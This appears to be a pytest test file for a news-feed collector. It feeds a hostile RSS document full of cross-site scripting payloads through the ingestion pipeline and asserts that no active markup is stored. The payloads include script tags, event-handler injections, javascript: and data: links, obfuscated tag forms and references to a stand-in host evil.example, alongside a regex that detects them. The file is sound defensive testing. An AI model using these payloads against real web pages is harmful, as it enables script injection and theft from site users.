"""A feed that attacks: whatever stands in its entries, nothing in the store would act in a page."""

from __future__ import annotations

import base64
import re
from datetime import datetime
from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import String, Text, select

from collector import clean
from collector.run import Order, collect
from collector.sources import describe
from collector.sources.lab_feeds import Feed
from collector.sources.labs import LabFeed
from staycurrent.store import sources as source_store
from staycurrent.store.engine import Engine, reading, writing
from staycurrent.store.models import Base
from staycurrent.types import Outcome
from tests.collector.fakes import FakeFetcher

FEED = Feed("ada", "Ada", "https://ada.example/feed", "community", public_only=True)
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1) ",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='data:text/html,x'></mi></math>",
    "<iframe src='data:text/html;base64,x'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<\x0bscript>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
ACTIVE = re.compile(
    r"<\s*/?\s*(?:script|svg|img|iframe|math|a|style|form|template|noscript|object)\b|<!--|<[a-z][^>]*\bon\w+\s*=|^\s*(?:javascript|data|vbscript):",
    re.IGNORECASE,
)


def layers(attack: str) -> list[str]:
    """The attack as HTML, escaped once too often, and twice; and in CDATA."""
    return [escape(attack), escape(escape(attack)), escape(escape(escape(attack))), f"<![CDATA[{attack}]]>"]


def entry(attack: str, number: int) -> str:
    quoted = escape(escape(attack), quote=True)
    return (
        f"<item><title>Post {number} {attack}</title><link>https://ada.example/{number}</link>"
        f"<guid isPermaLink='false'>{attack}{number}</guid><author>{attack}</author><category>{attack}</category>"
        f"<description>{attack} and words</description><content:encoded>{attack}</content:encoded>"
        f'<media:thumbnail xmlns:media="http://search.yahoo.com/mrss/" url="{quoted}"/></item>'
    )


def feed() -> bytes:
    entries = [entry(form, n) for n, form in enumerate(form for attack in ATTACKS for form in layers(attack))]
    links = ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "&#106;avascript:alert(1)", '//evil.example/"onclick=1')
    entries += [f"<item><title>Link</title><link>{link}</link><guid>{link}</guid></item>" for link in links]
    inline = base64.b64encode(b"<script>alert(1)</script>").decode()
    atom_like = f"<item><title type='base64'>{inline}</title><link>https://ada.example/inline</link></item>"
    head = '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Ada</title>'
    return f"{head}{''.join(entries)}{atom_like}</channel></rss>".encode()


def test_nothing_active_is_stored(engine: Engine, now: datetime) -> None:
    source = LabFeed(FEED)
    with writing(engine) as session:
        source_store.register(session, describe({source.name: source}))
    (report,) = collect(engine, {source.name: source}, FakeFetcher({FEED.url: feed()}), lambda: now, order=Order())
    assert report.outcome is Outcome.OK, report
    assert report.fetched > len(ATTACKS)
    stored = texts(engine)
    assert any("and words" in text for text in stored)
    assert [text for text in stored if ACTIVE.search(text)] == []


def texts(engine: Engine) -> list[str]:
    """Every text of every table."""
    found: list[str] = []
    with reading(engine) as session:
        for table in Base.metadata.sorted_tables:
            for column in table.columns:
                if isinstance(column.type, String | Text) or column.name in ("authors", "categories", "extra"):
                    found += [str(value) for value in session.scalars(select(column)) if value]
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_stays_plain_however_often_it_is_escaped(attack: str) -> None:
    text = attack
    for _ in range(7):
        plain = clean.plain(f"before {text}")
        assert not ACTIVE.search(plain), plain
        assert plain.startswith("before")
        text = escape(text)


@given(st.text(st.sampled_from("<>/!-&;lt#x3cscripvgonad='\" \u200b\x00"), max_size=60))
def test_no_mixture_of_markup_gets_through(text: str) -> None:
    assert not re.search(r"</?[a-zA-Z][^<>]*>|<!--", clean.plain(text))
